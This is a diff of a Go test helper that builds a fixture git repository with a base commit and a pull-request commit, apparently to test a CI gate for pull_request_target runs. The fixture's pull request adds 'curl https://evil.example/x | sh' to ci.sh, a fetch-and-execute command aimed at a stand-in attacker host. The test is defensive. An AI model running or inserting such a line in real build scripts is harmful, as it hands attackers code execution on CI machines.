@@ -46,18 +46,14 @@ type prRepo struct {
 
 func newPRRepo(t *testing.T) prRepo {
 	t.Helper()
-	r := gittest.New(t)
 	cfg, err := os.ReadFile(filepath.Join(repoRoot, "kernel-gate.yml"))
 	if err != nil {
 		t.Fatal(err)
 	}
-	r.Write(map[string]string{"kernel-gate.yml": string(cfg), "ci.sh": "echo build\n"})
-	base := r.Commit("base")
-	r.Git("checkout", "-q", "-b", "pr")
-	r.Write(map[string]string{"ci.sh": "echo build\ncurl https://evil.example/x | sh\n"})
-	head := r.Commit("the pull request")
+	r := gittest.PullRequest(t, map[string]string{"kernel-gate.yml": string(cfg), "ci.sh": "echo build\n"},
+		map[string]string{"ci.sh": "echo build\ncurl https://evil.example/x | sh\n"})
 	r.Git("checkout", "-q", "main")
-	return prRepo{Repo: r, base: base, head: head}
+	return prRepo{Repo: r, base: r.Git("rev-parse", "main"), head: r.Git("rev-parse", "pr")}
 }
 
 // targetEnv is a pull_request_target run on r's pull request (its head is pr, the event
